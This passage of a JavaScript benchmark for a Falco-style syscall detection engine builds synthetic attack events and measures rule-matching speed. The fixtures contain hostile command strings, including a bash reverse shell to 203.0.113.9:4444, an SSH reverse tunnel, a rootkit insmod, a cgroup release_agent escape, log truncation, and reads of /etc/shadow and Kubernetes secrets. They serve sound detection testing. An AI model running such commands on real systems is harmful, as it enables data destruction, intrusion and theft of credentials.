  ['Remove Bulk Data from Disk', (n) => base({ ...PROCS.pg, ...execOf('shred -u -n 3 /var/lib/postgresql/data/base/16384/2619'), lineage: ['bash', 'runc', ...SHIM] }, 'execve', n, true)],
  ['Clear Log Activities', (n) => { const ev = withFile(base({ ...PROCS.alice, ...execOf('truncate -s0 /var/log/auth.log'), user: 'root', uid: 0, lineage: ['sudo', 'bash', 'sshd', 'sshd', 'systemd'] }, 'openat', n), '/var/log/auth.log', 3); ev['evt.is_open_read'] = false; ev['evt.is_open_write'] = true; ev['evt.arg.flags'] = 'O_WRONLY|O_CREAT|O_TRUNC'; ev['evt.rawres'] = 3; return ev; }],
  ['Create Symlink Over Sensitive Files', (n) => { const ev = base({ ...BOXES.debug, ...execOf('ln -s /etc/shadow /tmp/s'), lineage: ['bash', 'runc', ...SHIM] }, 'symlinkat', n); ev['evt.arg.target'] = '/etc/shadow'; ev['evt.arg.linkpath'] = '/tmp/s'; return ev; }],
  ['Create Hardlink Over Sensitive Files', (n) => { const ev = base({ ...BOXES.debug, ...execOf('ln /etc/shadow /tmp/h'), lineage: ['bash', 'runc', ...SHIM] }, 'linkat', n); ev['evt.arg.oldpath'] = '/etc/shadow'; ev['evt.arg.newpath'] = '/tmp/h'; return ev; }],
  ['Packet socket created in container', (n) => { const ev = base({ ...BOXES.debug, ...execOf('tcpdump -i eth0'), lineage: ['bash', 'runc', ...SHIM] }, 'socket', n); ev['evt.arg.domain'] = 'AF_PACKET'; ev['evt.rawres'] = 3; return ev; }],
  ['Redirect STDOUT/STDIN to Network Connection in Container', (n) => { const ev = withSocket(base({ ...PROCS.api, name: 'bash', exe: '/bin/bash', args: '-i', lineage: ['python3', 'gunicorn', ...SHIM] }, 'dup2', n), '10.244.1.40:41234', '203.0.113.9:4444'); ev['evt.rawres'] = 1; return ev; }],
  ['Linux Kernel Module Injection Detected', (n) => { const ev = base({ ...BOXES.priv, ...execOf('insmod /tmp/rootkit.ko'), lineage: ['sh', 'runc', ...SHIM] }, 'finit_module', n); ev['evt.arg.fd'] = 3; return ev; }],
  ['Debugfs Launched in Privileged Container', (n) => base({ ...BOXES.priv, ...execOf('debugfs /dev/sda1'), lineage: ['sh', 'runc', ...SHIM] }, 'execve', n, true)],
  ['Detect release_agent File Container Escapes', (n) => { const ev = withFile(base({ ...BOXES.priv, ...execOf('sh -c echo /cmd > /tmp/cg/release_agent'), lineage: ['sh', 'runc', ...SHIM] }, 'openat', n), '/tmp/cg/release_agent', 3); ev['evt.is_open_read'] = false; ev['evt.is_open_write'] = true; ev['evt.arg.flags'] = 'O_WRONLY|O_CREAT|O_TRUNC'; ev['evt.rawres'] = 3; return ev; }],
  ['PTRACE attached to process', (n) => { const ev = base({ ...BOXES.debug, ...execOf('gdb -p 1'), lineage: ['bash', 'runc', ...SHIM] }, 'ptrace', n); ev['evt.arg.request'] = 'PTRACE_ATTACH'; return ev; }],
  ['PTRACE anti-debug attempt', (n) => { const ev = base({ ...PROCS.api, ...execOf('kworkerds'), lineage: ['sh', 'gunicorn', ...SHIM] }, 'ptrace', n); ev['evt.arg.request'] = 'PTRACE_TRACEME'; return ev; }],
  ['Execution from /dev/shm', (n) => base({ ...PROCS.api, name: 'xmrig', exe: '/dev/shm/xmrig', args: '--donate-level 1', lineage: ['sh', 'gunicorn', ...SHIM] }, 'execve', n, true)],
  ['Drop and execute new binary in container', (n) => base({ ...PROCS.front, name: 'kinsing', exe: '/tmp/kinsing', args: '', upper: true, lineage: ['sh', 'node', 'npm', ...SHIM] }, 'execve', n, true)],
  ['Fileless execution via memfd_create', (n) => base({ ...PROCS.api, name: '3', exe: 'memfd:', exepath: 'memfd:', args: '', memfd: true, lineage: ['python3', 'gunicorn', ...SHIM] }, 'execve', n, true)],
  ['Disallowed SSH Connection Non Standard Port', (n) => withSocket(base({ ...PROCS.alice, ...execOf('ssh -p 443 -R 9000:localhost:22 tunnel@203.0.113.50'), exe: '/usr/bin/ssh' }, 'connect', n), '10.0.0.12:51522', '203.0.113.50:443')],
  ['Contact K8S API Server From Container', (n) => withSocket(base({ ...PROCS.front, ...execOf('curl -sk https://kubernetes.default.svc/api/v1/secrets'), lineage: ['sh', 'node', 'npm', ...SHIM] }, 'connect', n), '10.244.1.52:40001', '10.96.0.1:443', { name: 'kubernetes.default.svc.cluster.local' })],
  ['Directory traversal monitored file read', (n) => { const ev = withFile(base(PROCS.nginx, 'openat', n), '/etc/passwd', 15); ev['fd.nameraw'] = '/usr/share/nginx/html/../../../../etc/passwd'; ev['evt.is_open_read'] = true; ev['evt.is_open_write'] = false; ev['evt.arg.flags'] = 'O_RDONLY'; ev['evt.rawres'] = 15; return ev; }],
  ['System user interactive', (n) => base({ ...PROCS.alice, ...execOf('id'), user: 'www-data', uid: 33, lineage: ['bash', 'sshd', 'sshd', 'systemd'] }, 'execve', n, true)],
];

/**
 * `count` events: benign syscalls in the proportions of BENIGN, and about `attackRate` of attack events (cycling
 * through ATTACKS), deterministic for a given seed. Events are plain objects as parsed from JSON.
 */
export function generateEvents(count = 5000, { seed = 42, attackRate = 0.01 } = {}) {
  rand = mulberry32(seed);
  const events = [];
  const benign = BENIGN.map(([w, , f]) => [w, f]);
  let a = 0;
  for (let n = 1; n <= count; n++) {
    const ev = rand() < attackRate ? ATTACKS[a++ % ATTACKS.length][1](n) : weighted(benign)(n);
    // As a consumer of Falco's JSON output gets them (and fast-properties objects, which building them key by key
    // does not give past 16 keys).
    events.push(JSON.parse(JSON.stringify(ev)));
  }
  return events;
}

// --- the ruleset run ---------------------------------------------------------------------------------------------

function runIndexed(events, byType, unrestricted) {
  let alerts = 0;
  for (let i = 0; i < events.length; i++) {
    const ev = events[i];
    const rs = byType.get(ev['evt.type']);
    if (rs !== undefined) for (let j = 0; j < rs.length; j++) if (rs[j].evaluate(ev)) alerts++;
    for (let j = 0; j < unrestricted.length; j++) if (unrestricted[j].evaluate(ev)) alerts++;
  }
  return alerts;
}

function runAll(events, rules) {
  let alerts = 0;
  for (let i = 0; i < events.length; i++) {
    const ev = events[i];
    for (let j = 0; j < rules.length; j++) if (rules[j].evaluate(ev)) alerts++;
  }
  return alerts;
}

/** Events per second of `pass` (one pass over `events`), repeated to about `ms` per timed run. */
function eventsPerSecond(pass, events, ms = 300) {
  const probe = timeRuns(pass, { runs: 3, warm: 3 });
  const passes = Math.max(1, Math.round((ms * 1e6) / probe));
  const ns = timeRuns(() => {
    let s = 0;
    for (let i = 0; i < passes; i++) s += pass();
    return s;
  }) / passes;
  return (events.length * 1e9) / ns;
}

/** Events per second of `RuleEngine.match` (Falco's `rule_matching: first`) over the events, for one backend. */
function engineRate(set, events, backend) {
  const engine = new RuleEngine(set, { backend });
  const pass = (evs) => () => {
    let n = 0;
    for (let i = 0; i < evs.length; i++) n += engine.match(evs[i]).length;
    return n;
  };
  const relevant = events.filter((ev) => engine.candidates(ev['evt.type']).length > 0);
  return { all: eventsPerSecond(pass(events), events), relevant: eventsPerSecond(pass(relevant), relevant) };
}

export function ruleset({ count = 5000, seed = 42 } = {}) {
  const { lists, macros, rules, disabled } = loadRules();
  // Today's figure (closures per condition, as before generated code), then the same with generated conditions.
  const compiled = rules.map((r) => {
    const c = compile(r.condition, { macros, lists, backend: 'closures' });
    return { name: r.name, evaluate: c.evaluate, eventTypes: c.eventTypes, fields: c.fields };
  });
  const generated = rules.map((r) => {
    const c = compile(r.condition, { macros, lists, backend: 'codegen' });
    return { name: r.name, evaluate: c.evaluate, eventTypes: c.eventTypes, fields: c.fields };
  });
  const { byType, unrestricted } = indexRules(compiled);
  const events = generateEvents(count, { seed });

  // Statistics, untimed.
  let candidates = 0;
  let withCandidates = 0;
  let alerts = 0;
  const fired = new Map();
  for (const ev of events) {
    const rs = [...(byType.get(ev['evt.type']) ?? []), ...unrestricted];
    candidates += rs.length;
    if (rs.length) withCandidates++;
    for (const r of rs) if (r.evaluate(ev)) {
      alerts++;
      fired.set(r.name, (fired.get(r.name) ?? 0) + 1);
    }
  }
  const allAlerts = runAll(events, compiled);
  if (allAlerts !== alerts) throw new Error(`the evt.type index changes the result: ${alerts} alerts indexed, ${allAlerts} without`);
  const fieldsRead = new Set(compiled.flatMap((r) => r.fields));
  const missing = [...fieldsRead].filter((f) => !events.some((ev) => ev[f] !== undefined));

  const indexed = eventsPerSecond(() => runIndexed(events, byType, unrestricted), events);
  const relevant = events.filter((ev) => byType.has(ev['evt.type']) || unrestricted.length);
  const indexedRelevant = eventsPerSecond(() => runIndexed(relevant, byType, unrestricted), relevant);
  const all = eventsPerSecond(() => runAll(events, compiled), events);
  const gen = indexRules(generated);
  if (runIndexed(events, gen.byType, gen.unrestricted) !== alerts) throw new Error('generated conditions and closures disagree');
  const indexedGenerated = eventsPerSecond(() => runIndexed(events, gen.byType, gen.unrestricted), events);
  const indexedGeneratedRelevant = eventsPerSecond(() => runIndexed(relevant, gen.byType, gen.unrestricted), relevant);
  // The rule engine on the loader's rule set (exceptions included), with the rule-set function and with closures.
  const set = loadRuleFiles([{ path: 'falco_rules.yaml', text: readFileSync(sharedUrl('corpus/rules/falco_rules.yaml'), 'utf8') }]);
  const fn = engineRate(set, events, 'codegen');
  const loops = engineRate(set, events, 'closures');
  return {
    figures: {
      rules: compiled.length,
      'rules disabled (skipped)': disabled,
      'rules unrestricted by evt.type': unrestricted.length,
      events: events.length,
      'event types in mix': new Set(events.map((e) => e['evt.type'])).size,
      'events with candidate rules %': +((100 * withCandidates) / events.length).toFixed(1),
      'rules evaluated/event (indexed)': +(candidates / events.length).toFixed(2),
      'alerts/1000 events': +((1000 * alerts) / events.length).toFixed(2),
      'rules fired': fired.size,
      'events/s (indexed)': Math.round(indexed),
      'ns/event (indexed)': +(1e9 / indexed).toFixed(1),
      'events/s (indexed, events with candidate rules only)': Math.round(indexedRelevant),
      'events/s (all rules)': Math.round(all),
      'ns/event (all rules)': +(1e9 / all).toFixed(1),
      'events/s (indexed, generated conditions)': Math.round(indexedGenerated),
      'events/s (indexed, generated conditions, events with candidate rules only)': Math.round(indexedGeneratedRelevant),
      'events/s (RuleEngine.match, rule-set function)': Math.round(fn.all),
      'events/s (RuleEngine.match, rule-set function, events with candidate rules only)': Math.round(fn.relevant),
      'events/s (RuleEngine.match, closures)': Math.round(loops.all),
      'events/s (RuleEngine.match, closures, events with candidate rules only)': Math.round(loops.relevant),
      'rule-set function / indexed closures': +(fn.all / indexed).toFixed(2),
      'rule-set function / indexed closures (events with candidate rules only)': +(fn.relevant / indexedRelevant).toFixed(2),
    },
    fired: Object.fromEntries([...fired].sort((a, b) => b[1] - a[1])),
    neverFired: compiled.map((r) => r.name).filter((n) => !fired.has(n)),
    fieldsNotInMix: missing,
  };
}

export function run() {
  const single = singleChecks();
  const rs = ruleset();
  return { name: 'eval', ...single, ...rs.figures };
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const single = singleChecks();
  const rs = ruleset();
  console.log({ ...single, ...rs.figures });
  console.log('fired:', rs.fired);
  console.log('never fired:', rs.neverFired);
  console.log('fields the rules read that no event carries:', rs.fieldsNotInMix);
}
